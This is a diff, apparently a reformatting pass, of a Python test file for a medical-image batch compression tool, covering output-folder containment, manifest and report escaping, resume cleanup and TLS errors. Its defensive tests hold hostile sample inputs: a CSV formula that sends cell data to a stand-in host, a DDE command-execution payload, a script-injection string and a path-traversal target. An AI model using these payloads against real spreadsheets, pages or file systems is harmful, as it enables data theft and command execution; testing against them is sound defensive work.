@@ -50,9 +50,21 @@ def moec_bytes(payload: bytes = b"weights") -> bytes:
 
 
 def row(name: str, **fields) -> VolumeResult:
-    values = dict(input=name, series="", output=name.replace(".nii.gz", ".moec"), modality="", shape="4x4x4",
-                  bytes=100, ratio=6.2, psnr=30.5, ssim=0.9, seconds=1.0, status="ok", error="",
-                  settings=CohortSettings().key)
+    values = dict(
+        input=name,
+        series="",
+        output=name.replace(".nii.gz", ".moec"),
+        modality="",
+        shape="4x4x4",
+        bytes=100,
+        ratio=6.2,
+        psnr=30.5,
+        ssim=0.9,
+        seconds=1.0,
+        status="ok",
+        error="",
+        settings=CohortSettings().key,
+    )
     values.update(fields)
     return VolumeResult(**values)
 
@@ -66,13 +78,14 @@ def run_to_end(source: Path, out: Path, settings: CohortSettings, engine: Engine
     finished = [event for event in events if isinstance(event, Finished)]
     started = [i for i, event in enumerate(events) if isinstance(event, Started)]
     if finished:
-        assert len(started) == 1 and events[started[0] + 1:] == finished
+        assert len(started) == 1 and events[started[0] + 1 :] == finished
         assert [event.done for event in finished] == list(range(1, len(finished) + 1))
         assert {event.total for event in finished} == {len(finished)} == {events[started[0]].todo}
     return done.summary
 
 
 # --- no write outside the output folder ----------------------------------------------------------
+
 
 def test_names_from_headers_stay_inside_the_output_folder(tmp_path, monkeypatch):
     """Whatever series_stem returns, the stem is made path-safe and every target checked inside OUT."""
@@ -112,8 +125,9 @@ def test_a_folder_that_cannot_be_scanned_is_a_failed_row_and_the_rest_are_found(
 def test_outputs_a_file_system_takes_for_one_get_distinct_names(tmp_path):
     source = tmp_path / "in"
     nfc, nfd = unicodedata.normalize("NFC", "café"), unicodedata.normalize("NFD", "café")
-    for i, name in enumerate(("Brain.nii.gz", "brain.nii.gz", "BRAIN.nii", f"{nfc}.nii.gz", f"{nfd}.nii.gz",
-                              "other.nii.gz")):
+    for i, name in enumerate(
+        ("Brain.nii.gz", "brain.nii.gz", "BRAIN.nii", f"{nfc}.nii.gz", f"{nfd}.nii.gz", "other.nii.gz")
+    ):
         small_nifti(source / "s" / name, seed=i)
     jobs, broken = discover(source, tmp_path / "out")
     assert not broken and len(jobs) == 6
@@ -128,8 +142,9 @@ def test_outputs_a_file_system_takes_for_one_get_distinct_names(tmp_path):
 def test_a_target_outside_the_output_folder_is_refused_before_any_work(tmp_path):
     small_nifti(tmp_path / "in" / "a.nii.gz")
     out = tmp_path / "out"
-    job = VolumeJob("a.nii.gz", "", "../escaped.moec", "", tmp_path / "in" / "a.nii.gz", out / ".." / "escaped.moec",
-                    10)
+    job = VolumeJob(
+        "a.nii.gz", "", "../escaped.moec", "", tmp_path / "in" / "a.nii.gz", out / ".." / "escaped.moec", 10
+    )
     result = compress_one(job, CohortSettings(steps=2), threads=1)
     assert result.status == "failed" and "outside the output folder" in result.error
     assert not (tmp_path / "escaped.moec").exists() and not out.exists()
@@ -150,15 +165,29 @@ def test_keeping_the_identity_is_part_of_the_settings_key_and_old_keys_still_mat
 
 # --- the manifest ----------------------------------------------------------------------------------
 
+
 def test_formula_cells_are_neutralised_in_the_manifest_and_read_back_unchanged(tmp_path):
     path = tmp_path / MANIFEST
     hostile = [
-        row('=HYPERLINK("http://evil.example/?x="&A1,"click").nii.gz', series="+1.2.3", modality="@SUM(A1:A9)",
-            error="-2+3", psnr=-3.5, ratio=-1.0),
-        row("\tcmd|' /C calc'!A0.nii.gz", shape="\r=1+1", error="=cmd|' /C calc'!A0", status="failed",
-            bytes=None, psnr=None, ssim=None),
+        row(
+            '=HYPERLINK("http://evil.example/?x="&A1,"click").nii.gz',
+            series="+1.2.3",
+            modality="@SUM(A1:A9)",
+            error="-2+3",
+            psnr=-3.5,
+            ratio=-1.0,
+        ),
+        row(
+            "\tcmd|' /C calc'!A0.nii.gz",
+            shape="\r=1+1",
+            error="=cmd|' /C calc'!A0",
+            status="failed",
+            bytes=None,
+            psnr=None,
+            ssim=None,
+        ),
         row("'=already quoted.nii.gz", series="'quoted", modality="'", error="it's fine", bytes=-5),
-        row("plain.nii.gz", error="line one\nline two, with \"quotes\" and a comma"),
+        row("plain.nii.gz", error='line one\nline two, with "quotes" and a comma'),
     ]
     manifest = Manifest(path)
     for result in hostile:
@@ -188,6 +217,7 @@ def test_a_manifest_saved_with_a_byte_order_mark_and_a_huge_cell_is_read(tmp_pat
 
 # --- resume ----------------------------------------------------------------------------------------
 
+
 def test_a_damaged_output_of_the_right_size_is_not_finished(tmp_path):
     out = tmp_path / "out"
     out.mkdir()
@@ -211,10 +241,13 @@ def test_only_the_batchs_own_temporary_files_are_removed(tmp_path):
     (out / "s").mkdir(parents=True)
     targets = [out / "s" / "a.moec", out / MANIFEST]
     stale = [out / "s" / ".a.moec.k2x_9abc.part.moec", out / ".manifest.csv.a1b2c3d4.part.csv"]
-    kept = [out / "s" / ".b.moec.k2x_9abc.part.moec",  # not an output of this batch
-            out / "s" / "a.moec.k2x_9abc.part.moec",  # not hidden: not a temporary file of atomic_write
-            out / "s" / ".a.moec.k2x_9abc.moec",  # no .part
-            out / "s" / "a.moec", out / "notes.part"]
+    kept = [
+        out / "s" / ".b.moec.k2x_9abc.part.moec",  # not an output of this batch
+        out / "s" / "a.moec.k2x_9abc.part.moec",  # not hidden: not a temporary file of atomic_write
+        out / "s" / ".a.moec.k2x_9abc.moec",  # no .part
+        out / "s" / "a.moec",
+        out / "notes.part",
+    ]
     for path in stale + kept:
         path.write_bytes(b"x")
     (out / "s" / ".a.moec.folder12.part.moec").mkdir()  # a folder of that name is not a temporary file
@@ -228,11 +261,19 @@ def test_only_the_batchs_own_temporary_files_are_removed(tmp_path):
 
 # --- the report ------------------------------------------------------------------------------------
 
+
 def test_the_report_escapes_pipes_line_breaks_and_html_and_the_table_escape_sequences(tmp_path):
     rows = (
         row("a|b\nc.nii.gz", modality="C|T", shape="4x4x4"),
-        row("x`y.nii.gz", status="failed", error="bad | header\r\n<script>alert(1)</script>\x1b[31m", bytes=None,
-            ratio=None, psnr=None, ssim=None),
+        row(
+            "x`y.nii.gz",
+            status="failed",
+            error="bad | header\r\n<script>alert(1)</script>\x1b[31m",
+            bytes=None,
+            ratio=None,
+            psnr=None,
+            ssim=None,
+        ),
         row("$\\frac{$.nii.gz", psnr=20.0),
     )
     md, png = write_report(rows, tmp_path / "report", "cohort | with\na newline")
@@ -240,7 +281,7 @@ def test_the_report_escapes_pipes_line_breaks_and_html_and_the_table_escape_sequ
     lines = md.read_text().split("\n")
     assert lines[0] == "# cohort \\| with a newline"
     table_lines = [line for line in lines if line.startswith("|")]
-    volume_rows = table_lines[table_lines.index("|---|---|---|---|---:|---:|---:|---:|") + 1:]
+    volume_rows = table_lines[table_lines.index("|---|---|---|---|---:|---:|---:|---:|") + 1 :]
     assert len(volume_rows) == 3
     for line in volume_rows:
         assert line.replace("\\|", "").count("|") == 9, line  # eight cells
@@ -254,23 +295,32 @@ def test_the_report_escapes_pipes_line_breaks_and_html_and_the_table_escape_sequ
 
 # --- TLS -------------------------------------------------------------------------------------------
 
+
 def test_a_tls_scheduler_without_certificates_is_one_clear_error(tmp_path):
     import dask.config
     import distributed  # noqa: F401  (its configuration's defaults, before dask.config.set records what to restore)
 
-    none = {"distributed.comm.tls.ca-file": None, "distributed.comm.tls.client.cert": None,
-            "distributed.comm.tls.client.key": None, "distributed.client.security-loader": None}
+    none = {
+        "distributed.comm.tls.ca-file": None,
+        "distributed.comm.tls.client.cert": None,
+        "distributed.comm.tls.client.key": None,
+        "distributed.client.security-loader": None,
+    }
     with dask.config.set(none), pytest.raises(MoecError, match="certificate") as refused:
         engine.connect("tls://127.0.0.1:1")
     assert "\n" not in str(refused.value) and "distributed.comm.tls.ca-file" in str(refused.value)
-    missing = {**none, "distributed.comm.tls.ca-file": str(tmp_path / "ca.pem"),
-               "distributed.comm.tls.client.cert": str(tmp_path / "client.pem")}
+    missing = {
+        **none,
+        "distributed.comm.tls.ca-file": str(tmp_path / "ca.pem"),
+        "distributed.comm.tls.client.cert": str(tmp_path / "client.pem"),
+    }
     with dask.config.set(missing), pytest.raises(MoecError, match="certificate") as refused:
         engine.connect("tls://127.0.0.1:1")
     assert "\n" not in str(refused.value)
 
 
 # --- real runs -------------------------------------------------------------------------------------
+
 
 def test_a_hostile_cohort_runs_inside_its_folder_and_a_damaged_output_is_made_again(tmp_path):
     source, out = tmp_path / "in", tmp_path / "nest" / "out"
@@ -303,4 +353,3 @@ def test_a_hostile_cohort_runs_inside_its_folder_and_a_damaged_output_is_made_ag
     unpack_container(target.read_bytes(), str(target))  # whole again
     assert not any(path.exists() for path in stale)
     assert files_under(tmp_path, leaving=out) == {**before, "nest": -1}
-
